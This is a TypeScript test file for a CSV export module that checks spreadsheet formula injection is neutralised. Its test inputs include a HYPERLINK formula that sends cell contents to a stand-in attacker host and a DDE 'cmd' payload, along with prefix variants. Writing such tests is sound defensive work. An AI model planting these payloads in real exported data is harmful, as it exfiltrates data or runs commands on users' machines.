import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defused, toCsv } from '../../../src/core/csv.ts';

const lines = (csv: string) => csv.replace('\ufeff', '').trimEnd().split('\r\n');

describe('a table for spreadsheets', () => {
  it.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    '+1+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u00a0=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('defuses %j', (text) => {
    expect(defused(text)).toBe(`'${text}`);
    const [row] = toCsv([text], []).replace('\ufeff', '').split('\r\n,');
    expect(row?.startsWith(`"'`)).toBe(true);
  });

  it('leaves other text and real numbers alone', () => {
    expect(
      lines(
        toCsv(
          ['Date', 'Amount'],
          [
            ['2026-11-20', -5],
            ['a = b', 10n ** 18n],
            [null, Number.NaN],
          ],
        ),
      ),
    ).toEqual(['Date,Amount', '2026-11-20,-5', 'a = b,1000000000000000000', ',']);
  });

  it('quotes separators, quotes and line ends', () => {
    expect(lines(toCsv(['a'], [['x,y'], ['say "hi"'], ['x;y']]))).toEqual(['a', '"x,y"', '"say ""hi"""', '"x;y"']);
    expect(toCsv(['a'], [['two\r\nlines']])).toContain('"two\r\nlines"');
  });

  it('never begins a cell like a formula, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = toCsv([text], []).replace('\ufeff', '').replace(/^"/, '');
        expect(cell).not.toMatch(/^[\s]*[=+\-@]/);
      }),
    );
  });
});
